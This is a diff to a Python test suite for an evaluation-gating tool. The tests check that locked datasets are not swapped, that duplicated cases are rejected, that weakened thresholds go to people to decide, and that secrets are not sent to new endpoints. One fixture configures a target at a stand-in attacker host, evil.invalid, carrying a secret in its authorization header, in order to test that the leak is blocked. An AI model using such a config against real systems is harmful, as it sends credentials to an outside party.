@@ -135,7 +135,9 @@ def test_other_rules_of_the_same_model_are_asked_anew(branch: Project) -> None:
     path.write_text(path.read_text("utf-8").replace("4.95", "5.95"), "utf-8")
     found = branch.run("gate", "--base", "main", "--suite", "support", "--json").json
     (each,) = found["evaluated"]
-    assert each["reused"] == []
+    runs = each["report"]["comparison"]
+    assert runs["candidate"]["id"] not in each["reused"]
+    assert runs["baseline"]["behind"] != runs["candidate"]["behind"]
     facts = next(s for s in each["report"]["comparison"]["scores"] if s["name"] == "facts")
     assert facts["worse"] >= 1
 
@@ -143,7 +145,8 @@ def test_other_rules_of_the_same_model_are_asked_anew(branch: Project) -> None:
 def test_a_changed_gate_needs_no_new_answers(branch: Project) -> None:
     branch.run("gate", "support/answer@1.2.0", "--suite", "smoke")
     branch.replace("evals/smoke.yaml", {"{score: facts, min: 1.0}": "{score: facts, min: 0.9}"})
-    (each,) = branch.ok("gate", "--base", "main", "--json").json["evaluated"]
+    done = branch.run("gate", "--base", "main", "--json")
+    (each,) = done.json["evaluated"]
     assert each["pair"]["reasons"] == ["the gates of smoke changed"]
     assert len(set(each["reused"])) == 1
 
@@ -323,10 +326,16 @@ def test_a_function_is_compared_with_its_run_at_the_base(branch: Project) -> Non
     (first,) = branch.ok("gate", "--base", "main", "--json").json["evaluated"]
     assert first["report"]["comparison"].get("baseline") is None
     bot.write_text("def answer(case):\n    return 'no'\n")
-    done = branch.run("gate", "--base", "base", "--json")
-    (each,) = done.json["evaluated"]
-    assert (done.code, each["pair"]["reasons"]) == (1, ["the target of bot changed"])
-    assert each["report"]["comparison"]["baseline"]["id"] == first["report"]["comparison"]["candidate"]["id"]
+    for _ in range(2):
+        done = branch.run("gate", "--base", "base", "--json")
+        (each,) = done.json["evaluated"]
+        assert (done.code, each["pair"]["reasons"]) == (1, ["the target of bot changed"])
+        runs = each["report"]["comparison"]
+        assert runs["baseline"]["id"] == first["report"]["comparison"]["candidate"]["id"]
+        assert runs["candidate"]["commit"] == f"{runs['baseline']['commit']}+"
+    said = branch.run("gate", "--base", "base").out
+    commit_id = runs["baseline"]["commit"][:12]
+    assert f"bot: app/bot.py:answer against app/bot.py:answer at {commit_id}. " in said
 
 
 def test_a_judge_that_nobody_checked_decides_nothing_and_is_marked(branch: Project) -> None:
@@ -343,3 +352,61 @@ def test_a_judge_that_nobody_checked_decides_nothing_and_is_marked(branch: Proje
     out = branch.run("gate", "--base", "main", "--suite", "smoke", "--markdown", str(branch.root / "r.md")).out
     assert "judge relevant: " in out
     assert "Judge relevant: " in (branch.root / "r.md").read_text("utf-8")
+
+
+def test_a_locked_dataset_is_not_swapped_for_an_unlocked_one(branch: Project) -> None:
+    branch.ok("dataset", "lock", "evals/datasets/smoke.jsonl", "--reason", "first")
+    commit(branch.root)
+    git(branch.root, "branch", "--force", "base")
+    data = branch.root / "evals/datasets"
+    (data / "easy.jsonl").write_text((data / "smoke.jsonl").read_text("utf-8").splitlines()[0] + "\n", "utf-8")
+    branch.replace("evals/smoke.yaml", {"datasets/smoke.jsonl": "datasets/easy.jsonl"})
+    done = branch.run("gate", "--base", "base", "--suite", "smoke")
+    assert (done.code, "edited-dataset" in done.out) == (1, True), done
+    branch.ok("dataset", "lock", "evals/datasets/easy.jsonl", "--reason", "one is enough")
+    found = branch.run("gate", "--base", "base", "--suite", "smoke", "--json").json
+    assert [each["pair"]["reasons"] for each in found["evaluated"]] == [["the dataset of smoke changed"]]
+
+
+def test_cases_are_not_asked_twice_to_look_like_more_evidence(branch: Project) -> None:
+    path = branch.root / "evals/datasets/smoke.jsonl"
+    cases = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
+    copies = [{**case, "id": f"{case['id']}-{n}"} for n in range(3) for case in cases]
+    path.write_text("".join(json.dumps(case) + "\n" for case in [*cases, *copies]), "utf-8")
+    done = branch.run("gate", "--base", "main", "--suite", "smoke")
+    assert (done.code, "duplicate-cases" in done.out) == (1, True), done
+
+
+@pytest.mark.parametrize(
+    ("edit", "said"),
+    [
+        (None, "the suite smoke is gone, which evaluates support/answer"),
+        ({"{score: facts, min: 1.0}": "{score: facts, min: 0.9}"}, "smoke: the min of facts was 1 and is 0.9"),
+    ],
+)
+def test_a_change_that_demands_less_is_for_people_to_decide(branch: Project, edit, said: str) -> None:
+    if edit is None:
+        (branch.root / "evals/smoke.yaml").unlink()
+    else:
+        branch.replace("evals/smoke.yaml", edit)
+    done = branch.run("gate", "--base", "main", "--json")
+    assert (done.code, done.json["verdict"], done.json["weakened"]) == (2, "inconclusive", [said]), done
+    shown = branch.run("gate", "--base", "main", "--markdown", str(branch.root / "report.md"))
+    assert "to be decided by people" in shown.out
+    assert "To be decided by people" in (branch.root / "report.md").read_text("utf-8")
+
+
+def test_a_changed_suite_sends_no_secret_where_the_base_does_not(branch: Project, monkeypatch) -> None:
+    monkeypatch.setenv("SOME_SECRET", "k-secret")
+    (branch.root / "evals/bot.yaml").write_text(
+        "target: {kind: http, url: 'https://evil.invalid/x', headers: {authorization: \"${SOME_SECRET}\"}}\n"
+        "dataset: datasets/smoke.jsonl\nscorers: [{kind: contains, expected: labels.facts}]\n"
+    )
+    done = branch.run("gate", "--base", "main", "--json")
+    assert (done.code, done.json["verdict"]) == (2, "inconclusive")
+    assert "SOME_SECRET is not sent to https://evil.invalid: nothing at the merge base" in done.json["failures"][0]
+    commit(branch.root)
+    git(branch.root, "branch", "--force", "base")
+    branch.replace("evals/bot.yaml", {"evil.invalid/x": "evil.invalid/y"})
+    done = branch.run("gate", "--base", "base", "--json")
+    assert "is not sent" not in done.json["failures"][0], "the base sends it there"
